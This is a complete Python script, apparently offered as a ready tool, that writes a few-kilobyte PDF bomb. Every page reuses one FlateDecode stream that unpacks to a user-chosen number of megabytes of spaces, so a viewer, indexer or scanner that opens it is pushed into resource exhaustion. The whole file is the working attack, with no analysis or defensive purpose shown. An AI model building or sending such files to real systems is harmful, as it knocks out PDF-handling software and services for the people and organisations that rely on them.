#!/usr/bin/env python3
"""bomb_pdf.py PAGES MB OUT: a PDF of a few KB whose pages all draw one stream that unpacks to so many MB of blanks."""
import sys
import zlib

pages, size, out = int(sys.argv[1]), int(sys.argv[2]) << 20, sys.argv[3]
packed = zlib.compress(b" " * size, 9)
kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
           b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)]
objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R >>"] * pages
text, places = b"%PDF-1.7\n", []
for number, body in enumerate(objects, 1):
    places.append(len(text))
    text += b"%d 0 obj\n%s\nendobj\n" % (number, body)
table = b"".join(b"%010d 00000 n \n" % place for place in places)
text += (b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
         % (len(objects) + 1, table, len(objects) + 1, len(text)))
with open(out, "wb") as file:
    file.write(text)
